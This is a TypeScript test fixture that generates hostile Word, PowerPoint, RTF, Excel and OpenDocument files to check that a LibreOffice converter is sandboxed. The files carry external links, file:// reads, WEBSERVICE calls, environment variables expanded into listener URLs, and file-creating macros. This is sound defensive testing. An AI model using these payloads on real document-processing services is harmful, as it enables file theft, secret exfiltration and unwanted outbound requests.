import { docx, openDocument, paragraph } from '../documents/documents.ts';
import { zip } from '../documents/zip.ts';
import {
  copies,
  expanded,
  reference,
  sheet,
  webservice,
  withFunction,
  withMacro,
  workbook,
} from './spreadsheets.ts';

/** The targets of hostile documents. */
export interface Canaries {
  /** URL of a listener that must receive no request. */
  http: string;
  /** Path of a text file whose content must appear on no page. */
  text: string;
  /** Path of a picture in one colour that must appear on no page. */
  picture: string;
  /** Path of a file that must not be created. */
  made: string;
}

/** The effects of a document in a LibreOffice without protection. */
export interface Reach {
  /** Paths that LibreOffice requests from the listener. */
  calls?: string[];
  /** The text of the file or of the environment is on a page. */
  text?: true;
  /** The picture is on a page. */
  picture?: true;
  /** The file is created. */
  made?: true;
}

export interface Hostile {
  name: string;
  extension: string;
  content: Buffer;
  /** Whether LibreOffice's settings do not prevent it, and only the sandbox does. */
  onlyContained?: boolean;
  reaches: Reach;
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A link in a Word document. */
interface Link {
  type: 'image' | 'aFChunk' | 'subDocument';
  url: string;
}

const picture = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="3000000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="3000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const BODY: Record<Link['type'], (id: string) => string> = {
  image: picture,
  aFChunk: (id) => `<w:altChunk r:id="${id}"/>`,
  subDocument: (id) => `<w:subDoc r:id="${id}"/>`,
};

/** A Word document with links and with a template at another URL. */
function linkingText(links: Link[], template: string): Buffer {
  const relation = (id: string, type: string, target: string, more = ' TargetMode="External"') =>
    `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
  const parts = links.map(({ type }, index) => BODY[type](`rId1${index}`));
  const relations = links.map(({ type, url }, index) => relation(`rId1${index}`, type, url));
  const settings = [
    {
      name: 'word/settings.xml',
      content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('rId1', 'attachedTemplate', template)}</Relationships>`,
    },
  ];
  const body = `${paragraph('before')}${parts.join('')}`;
  return docx(body, settings, `${relations.join('')}${relation('rId8', 'settings', 'settings.xml', '')}`);
}

/** A presentation with one slide that has linked pictures. */
function slideWithPictures(...urls: string[]): Buffer {
  const types = 'application/vnd.openxmlformats-officedocument.presentationml.';
  const names = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}"`;
  const relations = (...all: string[]) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
  const relation = (type: string, target: string, more = '', id = 'rId1') =>
    `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
  const group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>';
  const shown = (_url: string, index: number) =>
    `<p:pic><p:nvPicPr><p:cNvPr id="${index + 2}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rId${index}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9000000" cy="6000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`;
  return zip([
    {
      name: '[Content_Types].xml',
      content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/ppt/presentation.xml" ContentType="${types}presentation.main+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="${types}slide+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations(relation('officeDocument', 'ppt/presentation.xml')) },
    {
      name: 'ppt/presentation.xml',
      content: `<p:presentation ${names}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      content: relations(relation('slide', 'slides/slide1.xml')),
    },
    {
      name: 'ppt/slides/slide1.xml',
      content: `<p:sld ${names}><p:cSld><p:spTree>${group}${urls.map(shown).join('')}</p:spTree></p:cSld></p:sld>`,
    },
    {
      name: 'ppt/slides/_rels/slide1.xml.rels',
      content: relations(
        ...urls.map((url, index) => relation('image', url, ' TargetMode="External"', `rId${index}`)),
      ),
    },
  ]);
}

const frame = (inside: string) =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="8cm">${inside}</draw:frame></text:p>`;
const linkedImage = (url: string) =>
  frame(`<draw:image xlink:href="${url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`);
const section = (url: string) =>
  `<text:section text:name="s"><text:section-source xlink:href="${url}" xlink:type="simple"/><text:p>old</text:p></text:section>`;
const svg = (url: string) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="${url}"/></svg>`,
  ).toString('base64');

const drawing = (url: string) =>
  frame(`<draw:image><office:binary-data>${svg(url)}</office:binary-data></draw:image>`);

/** The value of the variable `CANARY`; it can be a part of a URL. */
export const ENVIRONMENT = 'canary-of-the-environment';

/**
 * Documents that try in several ways to read files, to send requests and to create files. `reaches` lists what
 * LibreOffice 7.4 does without protection. It does not follow the other attempts either, so the tests prove nothing
 * about them: parts of other Word documents and templates, pictures over HTTP and INCLUDETEXT in RTF, pictures over HTTP
 * in SVG, variables in the URLs of pictures and sections, and macros when a text is opened without a window.
 */
export function hostiles({ http, text, picture: image, made }: Canaries): Hostile[] {
  const of = (name: string, extension: string, reaches: Reach, content: Buffer): Hostile => ({
    name,
    extension,
    content,
    reaches,
  });
  const odt = (name: string, reaches: Reach, ...bodies: string[]) =>
    of(name, 'odt', reaches, openDocument('text', bodies.join('')));
  const file = (path: string) => `file://${path}`;
  const object = `<draw:object-ole xlink:href="${http}/object" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
  return [
    of(
      'a Word document with links to pictures and texts, and with a template at a URL',
      'docx',
      { calls: ['/word.png'], picture: true },
      linkingText(
        [
          { type: 'image', url: `${http}/word.png` },
          { type: 'image', url: file(image) },
          { type: 'aFChunk', url: `${http}/a.docx` },
          { type: 'aFChunk', url: file(text) },
          { type: 'subDocument', url: `${http}/b.docx` },
          { type: 'subDocument', url: file(text) },
        ],
        `${http}/a.dotm`,
      ),
    ),
    of(
      'a slide with linked pictures',
      'pptx',
      { calls: ['/slide.png'], picture: true },
      slideWithPictures(`${http}/slide.png`, file(image)),
    ),
    odt(
      'an OpenDocument text with links over HTTP',
      { calls: ['/text.png', '/section.odt', '/object'] },
      linkedImage(`${http}/text.png`),
      section(`${http}/section.odt`),
      drawing(`${http}/drawing.png`),
      frame(object),
    ),
    odt(
      'an OpenDocument text with links to files of this machine',
      { picture: true, text: true },
      linkedImage(file(image)),
      section(file(text)),
    ),
    odt(
      'a text with environment variables in its URLs',
      {},
      linkedImage(expanded(`${http}/picture`)),
      section(expanded(`${http}/section`)),
    ),
    {
      ...odt('a drawing with a picture of this machine', { picture: true }, drawing(file(image))),
      onlyContained: true,
    },
    {
      ...of(
        'RTF fields with pictures and texts, and with a template at a URL',
        'rtf',
        { picture: true },
        Buffer.from(
          `{\\rtf1{\\*\\template ${http}/i.dot} start {\\field{\\*\\fldinst { INCLUDEPICTURE "${image}" \\\\d }}{\\fldrslt {}}}{\\field{\\*\\fldinst { INCLUDEPICTURE "${http}/f.png" \\\\d }}{\\fldrslt {}}}{\\field{\\*\\fldinst { INCLUDETEXT "${text}" }}{\\fldrslt {}}}}`,
        ),
      ),
      onlyContained: true,
    },
    of(
      'an Excel workbook with WEBSERVICE',
      'xlsx',
      { calls: ['/excel-webservice'] },
      workbook([`_xlfn.WEBSERVICE("${http}/excel-webservice")`]),
    ),
    of(
      'an Excel workbook with references to other workbooks',
      'xlsx',
      { calls: ['/other.xlsx'] },
      workbook(['[1]a!A1', '[2]a!A1'], [`${http}/other.xlsx`, file(text)]),
    ),
    of(
      'an OpenDocument spreadsheet with WEBSERVICE',
      'ods',
      { calls: ['/webservice'] },
      sheet([webservice(`${http}/webservice`)]),
    ),
    of(
      'references to cells of other spreadsheets, with an environment variable in a URL',
      'ods',
      { calls: ['/other.ods', `/cell/${ENVIRONMENT}`] },
      sheet([reference(`${http}/other.ods`), reference(expanded(`${http}/cell`)), reference(file(text))]),
    ),
    of(
      'sheets and ranges that are copies of other files',
      'ods',
      { calls: ['/sheet.ods', '/range.txt', `/sheet/${ENVIRONMENT}`], text: true },
      copies([`${http}/sheet.ods`, expanded(`${http}/sheet`)], [`${http}/range.txt`, file(text)]),
    ),
    of('a text with a macro that runs when the text is opened', 'odt', {}, withMacro(made)),
    of(
      'a spreadsheet with a macro that computes a cell',
      'ods',
      { made: true, text: true },
      withFunction(made),
    ),
  ];
}
